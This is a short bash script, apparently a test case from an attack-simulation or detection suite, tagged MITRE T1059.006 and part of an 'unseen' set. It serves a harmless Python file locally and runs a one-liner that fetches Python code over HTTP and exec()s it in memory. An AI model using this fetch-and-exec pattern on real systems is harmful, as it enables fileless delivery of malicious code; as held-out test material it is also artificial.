#!/usr/bin/env bash
# attack: T1059.006 Fetch python code over HTTP and exec it in memory (nothing written)
# set: unseen
. "$(dirname "$0")/lib/common.sh"
echo 'import os; os.getuid()' >"$SW/s.py"
p=$(serve "$SW")
python3 -c "import urllib.request;exec(urllib.request.urlopen('http://127.0.0.1:$p/s.py').read())"
